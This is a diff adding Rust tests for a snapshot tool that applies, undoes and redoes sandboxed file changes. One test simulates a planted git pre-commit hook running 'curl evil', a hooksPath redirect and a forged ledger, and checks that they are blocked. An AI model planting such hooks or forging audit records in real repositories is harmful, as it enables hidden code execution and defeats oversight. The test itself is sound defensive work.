@@ -1,0 +1,367 @@
+//! Each kind of change applied, undone, redone and undone again, compared by
+//! full tree hash (path, kind, mode, content or target).
+
+use retie_snapshot::{
+    apply, record_file_write, undo, ApplyOptions, ChangeKind, Changeset, ComputeOptions,
+    EntryState, Error, Op, RelPath, UndoOptions,
+};
+
+use crate::common::{assert_tree, base_tree, put, tree, Env};
+
+/// Runs `ops` in an overlay over the base tree, applies the changeset,
+/// checks the workspace equals what the command saw, undoes it (back to
+/// the original), redoes (undo of the undo) and undoes the redo.
+fn roundtrip(name: &str, ops: &str) -> Changeset {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let before = tree(&env.ws);
+    let (upper, expected_dir) = env.overlay("ovl", ops);
+    let after = tree(&expected_dir);
+    let cs = Changeset::compute(&env.ws, &upper).expect("compute");
+    assert!(cs.refused.is_empty(), "{name}: refused {:?}", cs.refused);
+    assert!(cs.blocked.is_empty(), "{name}: blocked {:?}", cs.blocked);
+    let (ws, store, journal) = env.open();
+
+    let applied = apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
+    assert_eq!(applied.state, EntryState::Complete);
+    assert_eq!(applied.id, cs.id);
+    assert_tree(&format!("{name}: after apply"), &after, &tree(&env.ws));
+
+    let undone = undo(&cs.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo");
+    assert_eq!(undone.op, Op::Undo { of: cs.id.clone() });
+    assert_tree(&format!("{name}: after undo"), &before, &tree(&env.ws));
+
+    let redone = undo(&undone.id, &ws, &store, &journal, &UndoOptions::default()).expect("redo");
+    assert_tree(&format!("{name}: after redo"), &after, &tree(&env.ws));
+
+    undo(&redone.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo redo");
+    assert_tree(
+        &format!("{name}: after undoing the redo"),
+        &before,
+        &tree(&env.ws),
+    );
+    assert_eq!(journal.entries().expect("entries").len(), 4);
+    cs
+}
+
+fn kinds(cs: &Changeset) -> Vec<(String, ChangeKind)> {
+    cs.changes
+        .iter()
+        .map(|c| (c.path.to_string(), c.kind))
+        .collect()
+}
+
+#[test]
+fn create() {
+    let cs = roundtrip(
+        "create",
+        "echo new > new.txt; mkdir -p made/deep; echo x > made/deep/x; mkdir newempty; echo y > dir/sub/y",
+    );
+    let k = kinds(&cs);
+    assert!(k.contains(&("new.txt".into(), ChangeKind::Created)));
+    assert!(k.contains(&("made".into(), ChangeKind::Created)));
+    assert!(k.contains(&("newempty".into(), ChangeKind::Created)));
+    assert!(k.contains(&("dir/sub/y".into(), ChangeKind::Created)));
+    let c = cs
+        .changes
+        .iter()
+        .find(|c| c.path.as_str() == "new.txt")
+        .expect("new.txt");
+    assert_eq!(c.new_hash(), Some(retie_snapshot::Hash::of(b"new\n")));
+    assert_eq!(c.base_hash(), None);
+}
+
+#[test]
+fn modify() {
+    let cs = roundtrip(
+        "modify",
+        "echo more >> a.txt; head -c 1000 /dev/zero > big.bin; echo changed > dir/sub/deeper/f3; touch dir/f1",
+    );
+    let k = kinds(&cs);
+    assert!(k.contains(&("a.txt".into(), ChangeKind::Modified)));
+    assert!(k.contains(&("big.bin".into(), ChangeKind::Modified)));
+    // `touch` copies up without changing content or mode: not a change.
+    assert!(!k.iter().any(|(p, _)| p == "dir/f1"), "{k:?}");
+    let a = cs
+        .changes
+        .iter()
+        .find(|c| c.path.as_str() == "a.txt")
+        .expect("a.txt");
+    assert_eq!(a.base_hash(), Some(retie_snapshot::Hash::of(b"hello\n")));
+    assert_eq!(
+        a.new_hash(),
+        Some(retie_snapshot::Hash::of(b"hello\nmore\n"))
+    );
+}
+
+#[test]
+fn delete() {
+    let cs = roundtrip("delete", "rm a.txt big.bin dir/sub/f2 link; rmdir emptydir");
+    assert!(cs.changes.iter().all(|c| c.kind == ChangeKind::Deleted));
+    assert_eq!(cs.changes.len(), 5);
+}
+
+#[test]
+fn chmod() {
+    let cs = roundtrip(
+        "chmod",
+        "chmod 600 a.txt; chmod 644 script.sh; chmod 700 dir; chmod 555 dir/sub; chmod 640 dir/sub/deeper/f3",
+    );
+    let k = kinds(&cs);
+    for p in ["a.txt", "script.sh", "dir", "dir/sub"] {
+        assert!(
+            k.contains(&(p.into(), ChangeKind::ModeChanged)),
+            "{p}: {k:?}"
+        );
+    }
+}
+
+#[test]
+fn symlink() {
+    let cs = roundtrip(
+        "symlink",
+        "ln -s dir/f1 newlink; ln -sfn script.sh link; ln -s /nonexistent/abs abslink; rm dirlink; ln -s dir dirlink",
+    );
+    let k = kinds(&cs);
+    assert!(k.contains(&("newlink".into(), ChangeKind::Created)));
+    assert!(k.contains(&("link".into(), ChangeKind::Modified)));
+    assert!(k.contains(&("abslink".into(), ChangeKind::Created)));
+}
+
+#[test]
+fn rename() {
+    // Renaming a lower directory gives EXDEV in the overlay; mv copies.
+    let cs = roundtrip(
+        "rename",
+        "mv a.txt b.txt; mv dir dir2; mv script.sh tree/t1/",
+    );
+    let k = kinds(&cs);
+    assert!(k.contains(&("a.txt".into(), ChangeKind::Deleted)));
+    assert!(k.contains(&("b.txt".into(), ChangeKind::Created)));
+    assert!(k.contains(&("dir/sub/deeper/f3".into(), ChangeKind::Deleted)));
+    assert!(k.contains(&("dir2/sub/deeper/f3".into(), ChangeKind::Created)));
+}
+
+#[test]
+fn delete_directory_tree() {
+    let cs = roundtrip("delete tree", "rm -rf tree dir/sub");
+    assert_eq!(
+        cs.changes
+            .iter()
+            .filter(|c| c.path.as_str().starts_with("tree"))
+            .count(),
+        25
+    );
+}
+
+#[test]
+fn replace_file_with_directory_and_back() {
+    let cs = roundtrip(
+        "replace",
+        "rm a.txt; mkdir a.txt; echo inner > a.txt/inner; rm -rf dir; echo now-a-file > dir; \
+         rm link; mkdir link; rm -rf emptydir; ln -s a.txt emptydir",
+    );
+    let k = kinds(&cs);
+    assert!(k.contains(&("a.txt".into(), ChangeKind::TypeChanged)));
+    assert!(k.contains(&("dir".into(), ChangeKind::TypeChanged)));
+    assert!(k.contains(&("dir/sub/f2".into(), ChangeKind::Deleted)));
+    assert!(k.contains(&("link".into(), ChangeKind::TypeChanged)));
+    assert!(k.contains(&("emptydir".into(), ChangeKind::TypeChanged)));
+}
+
+#[test]
+fn opaque_directory_recreated() {
+    // rm -rf + mkdir of the same name makes an opaque directory: everything
+    // of the lower's not in it is deleted, same-named files are compared.
+    let cs = roundtrip(
+        "opaque",
+        "rm -rf dir; mkdir -p dir/sub; echo one > dir/f1; echo fresh > dir/sub/f2",
+    );
+    let k = kinds(&cs);
+    assert!(
+        !k.iter().any(|(p, _)| p == "dir/f1"),
+        "unchanged content: {k:?}"
+    );
+    assert!(k.contains(&("dir/sub/f2".into(), ChangeKind::Modified)));
+    assert!(k.contains(&("dir/sub/deeper".into(), ChangeKind::Deleted)));
+}
+
+#[test]
+fn undo_refused_after_later_edit_and_allowed_with_force() {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let before = tree(&env.ws);
+    let (upper, _) = env.overlay("ovl", "echo sandbox > a.txt; echo n > new.txt");
+    let cs = Changeset::compute(&env.ws, &upper).expect("compute");
+    let (ws, store, journal) = env.open();
+    apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
+    // A later edit by someone else.
+    put(&env.ws, "a.txt", b"edited by the user\n", 0o644);
+    let edited = tree(&env.ws);
+    let err =
+        undo(&cs.id, &ws, &store, &journal, &UndoOptions::default()).expect_err("must refuse");
+    assert!(matches!(err, Error::UndoRefused { .. }), "{err}");
+    let paths: Vec<_> = err
+        .mismatched_paths()
+        .iter()
+        .map(|p| p.to_string())
+        .collect();
+    assert_eq!(paths, vec!["a.txt"]);
+    assert!(err.to_string().contains("a.txt"), "{err}");
+    assert_tree("refused undo touches nothing", &edited, &tree(&env.ws));
+
+    let forced =
+        undo(&cs.id, &ws, &store, &journal, &UndoOptions { force: true }).expect("forced undo");
+    assert_tree("forced undo restores the original", &before, &tree(&env.ws));
+    // Undoing the forced undo brings the user's edit back.
+    undo(&forced.id, &ws, &store, &journal, &UndoOptions::default()).expect("redo");
+    assert_tree("redo of a forced undo", &edited, &tree(&env.ws));
+}
+
+#[test]
+fn conflict_when_workspace_changed_after_base_applies_nothing() {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let (upper, _) = env.overlay(
+        "ovl",
+        "echo sandbox >> a.txt; echo new > new.txt; rm dir/f1; echo s > script.sh",
+    );
+    let cs = Changeset::compute(&env.ws, &upper).expect("compute");
+    // The real workspace moves on while the command ran.
+    put(&env.ws, "a.txt", b"concurrent edit\n", 0o644);
+    put(&env.ws, "new.txt", b"also created outside\n", 0o644);
+    let now = tree(&env.ws);
+    let (ws, store, journal) = env.open();
+    let err = apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect_err("conflict");
+    assert!(matches!(err, Error::Conflict { .. }), "{err}");
+    let mut paths: Vec<_> = err
+        .mismatched_paths()
+        .iter()
+        .map(|p| p.to_string())
+        .collect();
+    paths.sort();
+    assert_eq!(paths, vec!["a.txt", "new.txt"]);
+    assert_tree("conflict applies nothing", &now, &tree(&env.ws));
+    assert!(journal.entries().expect("entries").is_empty());
+}
+
+#[test]
+fn planted_git_hook_and_config_are_blocked() {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let before = tree(&env.ws);
+    let (upper, merged) = env.overlay(
+        "ovl",
+        "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; mkdir -p sub/.git/hooks; \
+         echo x > sub/.git/hooks/post-checkout; echo ok > fine.txt; mkdir -p .retie; echo forged > .retie/ledger",
+    );
+    let opts = ComputeOptions {
+        protected: vec![RelPath::new(".retie").expect("valid")],
+    };
+    let cs = Changeset::compute_with(&env.ws, &upper, &opts).expect("compute");
+    let blocked: Vec<_> = cs
+        .blocked
+        .iter()
+        .map(|b| b.change.path.to_string())
+        .collect();
+    for p in [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        "sub/.git/hooks",
+        "sub/.git/hooks/post-checkout",
+        ".retie",
+        ".retie/ledger",
+    ] {
+        assert!(
+            blocked.contains(&p.to_string()),
+            "{p} not blocked: {blocked:?}"
+        );
+    }
+    let (ws, store, journal) = env.open();
+    apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
+    assert!(
+        !env.ws.join(".git/hooks/pre-commit").exists(),
+        "hook planted"
+    );
+    assert_eq!(
+        std::fs::read(env.ws.join(".git/config")).expect("config"),
+        b"[core]\n"
+    );
+    assert!(!env.ws.join(".retie").exists());
+    assert!(env.ws.join("fine.txt").exists());
+    // With the explicit flag they apply; undo still returns to the original.
+    undo(&cs.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo");
+    assert_tree("undo", &before, &tree(&env.ws));
+    let cs2 = Changeset::compute_with(&env.ws, &upper, &opts).expect("compute");
+    let e = apply(
+        &cs2,
+        &ws,
+        &store,
+        &journal,
+        &ApplyOptions {
+            allow_blocked: true,
+        },
+    )
+    .expect("apply allowed");
+    assert_tree("allowed", &tree(&merged), &tree(&env.ws));
+    undo(&e.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo");
+    assert_tree("undo allowed", &before, &tree(&env.ws));
+}
+
+#[test]
+fn file_tool_writes_share_the_journal() {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let before = tree(&env.ws);
+    let (ws, store, journal) = env.open();
+    let p = RelPath::new("a.txt").expect("valid");
+    let w1 = record_file_write(&ws, &store, &journal, &p, b"tool write\n", None).expect("write");
+    let after1 = tree(&env.ws);
+    assert_eq!(
+        std::fs::read(env.ws.join("a.txt")).expect("read"),
+        b"tool write\n"
+    );
+    let q = RelPath::new("dir/sub/created.rs").expect("valid");
+    let w2 = record_file_write(&ws, &store, &journal, &q, b"fn main() {}\n", Some(0o600))
+        .expect("write");
+    undo(&w2.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo create");
+    assert!(!env.ws.join("dir/sub/created.rs").exists());
+    assert_tree("after undoing the create", &after1, &tree(&env.ws));
+    let u1 = undo(&w1.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo write");
+    assert_tree("after undoing both", &before, &tree(&env.ws));
+    undo(&u1.id, &ws, &store, &journal, &UndoOptions::default()).expect("redo write");
+    assert_tree("redo", &after1, &tree(&env.ws));
+    assert_eq!(journal.entries().expect("entries").len(), 5);
+}
+
+#[test]
+fn apply_twice_is_refused_and_blobs_dedup() {
+    let env = Env::new();
+    base_tree(&env.ws);
+    let (upper, _) = env.overlay("ovl", "cp big.bin big2.bin; cp big.bin big3.bin");
+    let cs = Changeset::compute(&env.ws, &upper).expect("compute");
+    let (ws, store, journal) = env.open();
+    let e = apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
+    let err = apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect_err("twice");
+    assert!(matches!(err, Error::EntryState { .. }), "{err}");
+    // Undo stores both copies' pre-images: one blob.
+    undo(&e.id, &ws, &store, &journal, &UndoOptions::default()).expect("undo");
+    let h = cs.changes[0].new_hash().expect("hash");
+    assert!(store.contains(&h));
+    let blobs = walkdir_count(&env.state.join("blobs"));
+    assert_eq!(blobs, 1, "one blob for identical content");
+}
+
+fn walkdir_count(d: &std::path::Path) -> usize {
+    let mut n = 0;
+    for e in std::fs::read_dir(d).expect("read_dir") {
+        let p = e.expect("entry").path();
+        if p.is_dir() {
+            n += walkdir_count(&p);
+        } else {
+            n += 1;
+        }
+    }
+    n
+}
